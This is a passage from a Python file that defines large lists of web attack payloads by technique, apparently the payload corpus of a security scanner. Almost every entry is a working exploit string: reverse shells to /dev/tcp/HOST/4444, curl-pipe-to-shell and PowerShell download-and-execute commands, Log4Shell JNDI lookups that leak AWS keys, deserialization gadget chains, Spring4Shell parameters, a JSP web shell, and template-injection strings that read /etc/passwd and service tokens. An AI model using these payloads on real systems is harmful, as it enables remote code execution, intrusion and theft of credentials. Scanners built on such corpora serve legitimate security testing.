    "new ProcessBuilder(\"bash\",\"-c\",\"curl http://" + HOST + "/s|bash\").start()",
    "new java.lang.ProcessBuilder(new String[]{\"cmd.exe\",\"/c\",\"whoami\"}).start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/" + HOST
    + "/4444 0>&1\"})",
    "Runtime.getRuntime().exec(\"bash -c {echo," + b64("bash -i >& /dev/tcp/" + HOST + "/4444 0>&1")
    + "}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(\"nslookup spawn." + OAST + "\")",
    "java.lang.Runtime.getRuntime().exec(\"touch /tmp/pwned\").waitFor()",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "ProcessBuilder pb = new ProcessBuilder(\"sh\", \"-c\", \"env\"); pb.redirectErrorStream(true); pb.start();",
    "new ProcessBuilder(\"id\").inheritIO().start().waitFor()",
    "Runtime.getRuntime().exec(\"powershell -nop -w hidden -c IEX(New-Object Net.WebClient)"
    ".DownloadString('http://" + HOST + "/a.ps1')\")",
    # Groovy (Jenkins pipelines, Grails, rules engines)
    "\"id\".execute().text",
    "['sh','-c','cat /etc/passwd'].execute().text",
    "def proc = \"wget -qO- http://" + HOST + "/g.sh\".execute() | \"sh\".execute(); proc.waitFor()",
    # Scala sys.process and Kotlin, same JVM
    "import sys.process._; \"id\".!!",
    "ProcessBuilder(listOf(\"sh\", \"-c\", \"id\")).start().inputStream.bufferedReader().readText()",
    # a Jenkinsfile submitted to a CI webhook that replays pipelines
    jb({"jenkinsfile": "node { sh 'curl -s http://" + HOST + "/ci.sh | sh' }", "branch": "main"}),
    jb({"rule": {"name": "discount", "when": "true",
                 "then": "new ProcessBuilder(['sh','-c','id'] as String[]).start()"}}),
]

# java-serialization: ObjectInputStream fed from a request (session cookies, JSF ViewState, JMX/RMI-over-HTTP,
# message bodies of a queue consumer's HTTP bridge); target: the JVM's deserializer. The stream magic in every
# form it travels in: raw bytes, percent-encoded, base64 (rO0AB), hex and gzip-then-base64 (H4sI)
JAVA_SER: list[Entry] = [
    latin(URLDNS),
    latin(CC6),
    latin(ser([HM, URL], "http", "raw." + OAST)),
    latin(ser([AIH, LAZY, INV], "exec", "id")),
    latin(CB1),
    b64(URLDNS),
    b64(ser([HM, URL], "https", "b64." + OAST)),
    (b64(ser([HS, TIED, LAZY, INV], "exec", "curl " + OAST)), "cookie", "rs-cookie"),
    (b64(ser([HM, URL], "http", "hdr." + OAST)), "header:X-Api-Version", "rs-header:X-Test-Header"),
    URLDNS.hex(),
    ser([AIH, LAZY, CHAIN, INV], "exec", "id").hex(),
    b64(gz(URLDNS)),
    b64(gz(CC1)),
    kv("javax.faces.ViewState=" + b64(gz(CC5)), "form", "rs-form"),
    kv("javax.faces.ViewState=" + b64(CC7), "form", "rs-raw-body"),
    jb({"type": "session.restore", "state": b64(ser([HM, URL], "http", "json." + OAST))}),
    jb({"Records": [{"messageId": "1", "body": b64(ser([PQ, INV, TPL], "newTransformer", "id"))}]}),
]

# deserialization-gadgets: ysoserial-style chains for the libraries a Spring Boot or Java EE service carries;
# target: the JVM, through commons-collections, commons-beanutils, spring, groovy, the JDK itself (7u21), c3p0,
# ROME, hibernate, Rhino, Clojure, Vaadin, and the JRMP client that calls back
GADGETS: list[Entry] = [
    b64(CC1),
    b64(CC2),
    b64(CC5),
    b64(CC6),
    b64(CC7),
    b64(CB1),
    b64(SPRING1),
    b64(SPRING2),
    b64(GROOVY1),
    b64(JDK7U21),
    b64(C3P0),
    b64(ROME),
    b64(HIBERNATE1),
    b64(JRMP),
    b64(RHINO),
    b64(CLOJURE),
    b64(VAADIN),
    latin(CC1),
    latin(SPRING1),
    latin(GROOVY1),
    # c3p0's WrapperConnectionPoolDataSource through a JSON binder: a hex-encoded chain in userOverridesAsString
    jb({"@type": "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
        "userOverridesAsString": "HexAsciiSerializedMap:" + CC6.hex() + ";"}),
    jb({"session": b64(ROME), "remember": True}),
]

# log4shell: any field a Java service logs with Log4j 2 < 2.15 (user agents, API headers, GraphQL arguments,
# webhook fields, search terms); target: Log4j's lookup engine, then the JNDI/LDAP/RMI client of the JVM
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://" + HOST + ":1389/a}",
    "${jndi:rmi://" + HOST + ":1099/Exploit}",
    "${jndi:dns://" + OAST + "/probe}",
    "${jndi:ldaps://" + OAST + ":636/x}",
    "${jndi:iiop://" + HOST + ":900/x}",
    "${${lower:j}ndi:${lower:l}${lower:d}${lower:a}${lower:p}://" + HOST + ":1389/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://" + HOST + "/u}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://" + HOST + "/o}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//" + HOST + "/e}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://" + HOST + "/k}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + HOST + "/d}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://" + OAST + "/m}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}." + OAST + "/a}",
    "${jndi:ldap://${sys:java.version}.${hostName}." + OAST + "/v}",
    "${jndi:dns://${env:SPRING_DATASOURCE_PASSWORD}." + OAST + "}",
    # CVE-2021-45046: the localhost-only check of 2.15 passes, the fragment carries the real host
    "${jndi:ldap://127.0.0.1#" + OAST + ":1389/a}",
    # CVE-2021-45105: self-referential lookup recursion (denial of service on 2.16)
    "${${::-${::-$${::-j}}}}",
    # percent-encoded once more for a service that decodes the query string twice
    "%24%7Bjndi%3Aldap%3A%2F%2F" + HOST + "%3A1389%2Fpe%7D",
    ("${jndi:ldap://" + HOST + ":1389/ua}", "header:User-Agent", "rs-header:User-Agent"),
    ("${${lower:jndi}:${lower:rmi}://" + HOST + "/xff}", "header:X-Forwarded-For", "rs-header:X-Forwarded-For"),
    ("${jndi:ldap://" + OAST + "/api-version}", "header:X-Api-Version", "rs-header:X-Api-Version"),
    # JSON-escaped dollar and brace survive a JSON-aware filter and are decoded before logging
    ('{"username": "\\u0024{jndi:ldap://' + HOST + ':1389/j}", "password": "x"}', *JB),
    jb({"query": "query($q: String!){ search(term: $q){ id } }",
        "variables": {"q": "${jndi:ldap://" + HOST + ":1389/gql}"}}),
    jb({"ref": "refs/heads/main", "repository": {"full_name": "acme/api"},
        "head_commit": {"message": "${jndi:ldap://" + HOST + ":1389/ci}", "author": {"name": "x"}}}),
]

# expression-language: OGNL (Struts 2, Confluence), SpEL (Spring Cloud Function/Gateway, Spring Data), MVEL, JEXL
# (Nexus), JSP/Jakarta EL (JSF, bean-validation messages); target: the expression evaluator, then the JVM
EXPRESSION: list[Entry] = [
    # SpEL
    "T(java.lang.Runtime).getRuntime().exec(\"id\")",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}",
    "${T(java.lang.System).getenv()}",
    "new java.lang.ProcessBuilder({'sh','-c','id'}).start()",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))",
    ("T(java.lang.Runtime).getRuntime().exec(\"curl http://" + HOST + "/scf\")",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    # Spring Cloud Gateway actuator route (CVE-2022-22947)
    jb({"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {
        "name": "Result",
        "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray("
                 "T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
        "uri": "http://example.com"}),
    # OGNL: Struts 2 parameters, S2-045 in Content-Type, Confluence CVE-2022-26134 in the path
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
    "'utf-8'))}",
    ("%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
     "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
     "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
     "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
     "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
     "(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString("
     "#process.getInputStream()))}", "header:Content-Type", "rs-header:Content-Type"),
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream()"
     ",\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
     "path", "rs-path"),
    ("redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess"
     "['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}", "param-name", "rs-param-name"),
    # MVEL (rules engines, old Elasticsearch)
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "def x() { Runtime.getRuntime().exec(\"touch /tmp/mvel\"); }; x();",
    # JEXL (Nexus Repository CVE-2019-7238 and CVE-2020-10199)
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/jexl')}",
    ('[{"action":"coreui_Component","method":"previewAssets","data":[{"page":1,"start":0,"limit":50,'
     '"sort":[{"property":"name","direction":"ASC"}],"filter":[{"property":"repositoryName","value":"*"},'
     '{"property":"expression","value":"1.class.forName(\'java.lang.Runtime\').getRuntime().exec(\'id\')"},'
     '{"property":"type","value":"jexl"}]}],"type":"rpc","tid":8}]', *JB),
    # JSP / Jakarta EL (JSF views, bean-validation message interpolation of a rejected value)
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}",
    "${pageContext.request.getSession().setAttribute(\"a\",\"\".getClass().forName(\"java.lang.Runtime\")"
    ".getMethod(\"exec\",\"\".getClass()).invoke(\"\".getClass().forName(\"java.lang.Runtime\")"
    ".getMethod(\"getRuntime\").invoke(null),\"id\"))}",
    "${facesContext.externalContext.request.getServletContext().getRealPath('/')}",
    jb({"email": "x@example.org", "username": "${''.getClass().forName('java.lang.Runtime').getMethods()[6]"
                                               ".invoke(''.getClass().forName('java.lang.Runtime')).exec('id')}"}),
]

# polymorphic-deserialization: JSON and XML binders that take the class from the document (fastjson autoType,
# Jackson default typing, XStream, XMLDecoder, SnakeYAML); target: the binder, then JNDI or a process
POLYMORPHIC: list[Entry] = [
    # fastjson
    jb({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://" + HOST + ":1389/Exploit",
        "autoCommit": True}),
    jb({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
        "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://" + HOST + ":1099/Exploit",
              "autoCommit": True}}),
    jb({"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "ldap://" + HOST + ":1389/L",
        "autoCommit": True}),
    jb({"@type": "LLcom.sun.rowset.JdbcRowSetImpl;;", "dataSourceName": "ldap://" + HOST + ":1389/LL",
        "autoCommit": True}),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://' + HOST + ':1389/arr",'
     '"autoCommit":true}', *JB),
    jb({"@type": "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",
        "properties": {"data_source": "ldap://" + HOST + ":1389/ibatis"}}),
    jb({"@type": "java.net.Inet4Address", "val": "fj." + OAST}),
    ('{"@type":"\\u0063om.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + HOST + ':1389/u",'
     '"autoCommit":true}', *JB),
    jb({"user": {"@type": "org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
                 "driverClassName": "com.mysql.cj.jdbc.Driver",
                 "url": "jdbc:mysql://" + HOST + ":3306/test?autoDeserialize=true&queryInterceptors="
                        "com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"}}),
    # Jackson with default typing enabled
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://' + HOST + ':1389/Obj","autoCommit":true}]',
     *JB),
    ('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://' + HOST + ':1389/logback"}]', *JB),
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://' + HOST + '/spel.xml"]',
     *JB),
    jb({"id": 1, "obj": ["com.zaxxer.hikari.HikariConfig", {"metricRegistry": "ldap://" + HOST + ":1389/h"}]}),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://' + HOST + '/inject.sql\'"}]', *JB),
    jb({"@class": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://" + HOST + ":1389/xbean"}),
    # XStream
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<linked-hash-set><dynamic-proxy><interface>java.util.Map</interface><handler class=\"java.beans."
     "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>bash</string><string>-c"
     "</string><string>curl http://" + HOST + "/xs|sh</string></command></target><action>start</action>"
     "</handler></dynamic-proxy></linked-hash-set>", *XB),
    # XMLDecoder (WebLogic wls-wsat CVE-2017-10271 and a bare decoder endpoint)
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8\" "
     "class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\""
     " length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string>"
     "</void><void index=\"2\"><string>id</string></void></array><void method=\"start\"/></object></java>"
     "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", *XB),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>touch "
     "/tmp/xmldecoder</string></void></object></java>", *XB),
    # SnakeYAML (Spring Boot config endpoints, YAML request bodies)
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + HOST
     + "/yaml-payload.jar\"]]]]", *YB),
    ("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://" + HOST + ":1389/yaml\", autoCommit: true}",
     *YB),
]

# class-loading: loading attacker bytecode into the JVM (URLClassLoader from a remote jar, defineClass of
# inline bytes, BCEL class names, Spring4Shell's classLoader property path); target: the JVM and Tomcat
CLASS_LOADING: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://" + HOST + "/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL('http://" + HOST
    + "/e.jar')}).loadClass('Evil').getConstructor().newInstance()",
    "Class.forName(\"Evil\", true, new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://"
    + HOST + "/c.jar\")}))",
    "java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", byte[].class, int.class, "
    "int.class); m.setAccessible(true);",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Evil',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('yv66vgAAADQAHgoABgARCgASABMIABQKABIAFQcAFgcAFwEABjxpbml0PgEAAygpVgEABENvZGUBAA9MaW5l'),"
    "new javax.management.loading.MLet(new java.net.URL[0],T(java.lang.Thread).currentThread()"
    ".getContextClassLoader()))",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL('http://" + HOST
    + "/m.jar')}).loadClass('Payload')",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode('yv66vgAAADQA'))",
    "this.class.classLoader.parseClass('class X { static { \"id\".execute() } }').newInstance()",
    "new groovy.lang.GroovyClassLoader().parseClass(new URL('http://" + HOST + "/p.groovy').text).newInstance()",
    jb({"@type": "org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
        "driverClassLoader": {"@type": "com.sun.org.apache.bcel.internal.util.ClassLoader"},
        "driverClassName": "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dR$cbn$d3$40$U$3d$93$3a$b1$e3$3a$ad$9b$b6$a4$d0"}),
    # Spring4Shell (CVE-2022-22965): data binding walks class.module.classLoader into Tomcat's access log valve
    kv("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals("
       "request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter"
       "(\"cmd\")).getInputStream(); }%{suffix}i", "form", "rs-form"),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "form", "rs-raw-body"),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", "param-name",
       "rs-param-name"),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", "form", "rs-query"),
    # Struts 1 / older Spring: the same path without the module step
    kv("class.classLoader.resources.dirContext.docBase=/", "query", "rs-form"),
    kv("class['classLoader'].resources.dirContext.aliases=/x=/etc", "param-name", "rs-raw-body"),
]

# jsp-upload: a JSP shell uploaded to a Tomcat/Jetty service (profile pictures, import files, Tomcat PUT);
# target: the servlet container that compiles and runs it
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));"
             " BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l;"
             " while ((l = r.readLine()) != null) { out.println(l); } %>")
JSP_UPLOAD: list[Entry] = [
    ("shell.jsp", "multipart-filename", "rs-multipart-filename"),
    ("cmd.jspx", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp%00.png", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp;.png", "multipart-filename", "rs-multipart-filename"),
    ("../../webapps/ROOT/s.jsp", "multipart-filename", "rs-multipart-filename"),
    ("..\\..\\webapps\\ROOT\\x.jsp", "multipart-filename", "rs-multipart-filename"),
    ("import.JSP", "multipart-filename", "rs-multipart-filename"),
    ("report.jsp.", "multipart-filename", "rs-multipart-filename"),
    ("x.jsp/", "multipart-filename", "rs-multipart-filename"),
    ("export.jsp::$DATA", "multipart-filename", "rs-multipart-filename"),
    (JSP_SHELL, "multipart-field", "rs-raw-body"),
    ("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "multipart-field", "rs-form"),
    ("<%! public void jspInit() { try { Runtime.getRuntime().exec(\"touch /tmp/jsp\"); } catch (Exception e) {} }"
     " %>", "multipart-field", "rs-raw-body"),
    ("<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>Runtime.getRuntime()"
     ".exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>", "multipart-field", "rs-xml"),
    ("<jsp:scriptlet>new ProcessBuilder(\"sh\",\"-c\",request.getParameter(\"c\")).start();</jsp:scriptlet>",
     "multipart-field", "rs-form"),
    ("<%@ page import=\"java.util.*,java.io.*\"%><%=new Scanner(Runtime.getRuntime().exec(request.getParameter("
     "\"q\")).getInputStream()).useDelimiter(\"\\\\A\").next()%>", "multipart-field", "rs-raw-body"),
]


# ================================================================================================================
# ssti: template strings users can set (notification and e-mail templates, report headers, webhook message
# formats, CMS snippets, server-side rendered pages); one list per engine, each aimed at that engine
# ================================================================================================================
# jinja2: Flask/FastAPI services, Airflow and Ansible-style templated fields; target: Jinja2, then Python's os
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('cat /var/run/secrets/kubernetes.io/serviceaccount/token').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('env').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{joiner.__init__.__globals__.os.popen('curl " + HOST + "/j|sh').read()}}",
    "{{namespace.__init__.__globals__.os.popen('id').read()}}",
    "{{get_flashed_messages.__globals__.current_app.config}}",
    "{{url_for.__globals__.os.environ}}",
    jb({"notification": {"channel": "email", "subject": "Invoice {{cycler.__init__.__globals__.os.popen('id')"
                                                        ".read()}}", "body": "Hi"}}),
    jb({"query": "mutation($t: String!){ updateTemplate(id: 7, body: $t){ preview } }",
        "variables": {"t": "{{lipsum.__globals__.os.popen('whoami').read()}}"}}),
]

# twig: Symfony/Drupal/Craft services rendering a user-set template; target: Twig, then PHP's exec functions
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{['id',1]|sort('passthru')}}",
    "{{[0]|reduce('system','id')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{% set cmd = 'curl " + HOST + "/t|sh' %}{{ [cmd]|filter('shell_exec')|first }}",
    "{{_self.env.setCache(\"ftp://" + HOST + ":2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    jb({"page": {"slug": "about", "twig": "{{['id']|map('passthru')}}"}}),
]

# freemarker: Spring/Liferay/Alfresco/OFBiz services with editable mail or page templates; target: FreeMarker
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('whoami')}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
    "\"id\").start()}",
    "<#assign jsr=\"freemarker.template.utility.JythonRuntime\"?new()><@jsr>import os;os.system(\"id\")</@jsr>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=object?api.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")>${owc}",
    jb({"template": {"name": "welcome", "engine": "ftl",
                     "source": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"env\")}"}}),
]

# velocity: Solr's VelocityResponseWriter, Confluence macros, Java mail templates; target: Velocity, then the JVM
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"touch /tmp/vm\")",
    "#set($s=\"\")#set($p=$s.getClass().forName(\"java.lang.ProcessBuilder\"))"
    "$p.getConstructor($s.getClass().forName(\"[Ljava.lang.String;\")).newInstance($s.split(\"id\")).start()",
    # Solr CVE-2019-17558: enable params.resource.loader, then render a template from the query
    jb({"update-queryresponsewriter": {"startup": "lazy", "name": "velocity", "class": "solr.VelocityResponseWriter",
                                       "template.base.dir": "", "solr.resource.loader.enabled": "true",
                                       "params.resource.loader.enabled": "true"}}),
    kv("q=1&wt=velocity&v.template=custom&v.template.custom=#set($x='') #set($rt=$x.class.forName("
       "'java.lang.Runtime')) #set($ex=$rt.getRuntime().exec('id')) $ex.waitFor()"),
    # Confluence widget connector (CVE-2019-3396): the _template parameter names any Velocity template
    jb({"contentId": "786457", "macro": {"name": "widget", "body": "", "params": {
        "url": "https://www.viddler.com/v/23464dc5", "width": "1000", "height": "1000",
        "_template": "file:///etc/passwd"}}}),
]

# thymeleaf: Spring Boot controllers that return a view name built from input (fragment expressions), and
# templates stored in the database; target: Thymeleaf's SpEL/OGNL evaluation
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec(\"touch /tmp/th\")}__::.x",
    "__${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}__::x",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    ("__${T(java.lang.Runtime).getRuntime().exec('id')}__::main.x", "path", "rs-path"),
    kv("lang=__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}"
       "__::.x"),
]

# erb: Rails/Sinatra services rendering a stored template string with ERB; target: ERB, then Ruby
ERB: list[Entry] = [
    "<%= `id` %>",
    "<%= system(\"id\") %>",
    "<%= IO.popen('cat /etc/passwd').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV.to_h %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= %x(whoami) %>",
    "<%= Rails.application.secret_key_base %>",
    jb({"email_template": {"subject": "Welcome <%= `curl " + HOST + "/e|sh` %>", "locale": "en"}}),
]

# smarty: PHP shops and CMSs rendering user-set Smarty templates; target: Smarty, then PHP
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{$smarty.version}",
    "{fetch file=\"file:///etc/passwd\"}",
    "{include file=\"file:/etc/passwd\"}",
    "{passthru(\"cat /etc/passwd\")}",
    "{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\\'id\\')}')}",
    jb({"newsletter": {"footer": "{if passthru('curl " + HOST + "/s|sh')}{/if}"}}),
]

# handlebars: Node services compiling user templates (e-mail builders, Ghost-style themes); target: Handlebars,
# then the Function constructor and child_process
HB_HEAD = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
           "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
           "{{this.pop}}{{this.push \"")
HB_TAIL = ("\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}"
           "{{/with}}{{/with}}{{/with}}{{/with}}")
HANDLEBARS: list[Entry] = [
    HB_HEAD + "return require('child_process').execSync('id');" + HB_TAIL,
    HB_HEAD + "return process.mainModule.require('child_process').execSync('cat /etc/passwd');" + HB_TAIL,
    HB_HEAD + "return process.env;" + HB_TAIL,
    ("{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n"
     "      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n"
     "      {{#with string.split as |codelist|}}\n        {{this.pop}}\n"
     "        {{this.push \"return global.process.mainModule.constructor._load('child_process')"
     ".execSync('whoami');\"}}\n        {{this.pop}}\n        {{#each conslist}}\n"
     "          {{#with (string.sub.apply 0 codelist)}}\n            {{this}}\n          {{/with}}\n"
     "        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n{{/with}}"),
    "{{#with (lookup this \"constructor\")}}{{#with (lookup this \"constructor\")}}{{this \"return process\"}}"
    "{{/with}}{{/with}}",
    jb({"template": {"html": HB_HEAD + "return require('child_process').execSync('curl " + HOST + "/h|sh');"
                     + HB_TAIL, "name": "receipt"}}),
]

# pug: Express views compiled from user input (pug.render of a stored snippet); target: pug, then Node.js
PUG: list[Entry] = [
    "#{global.process.mainModule.require('child_process').execSync('id')}",
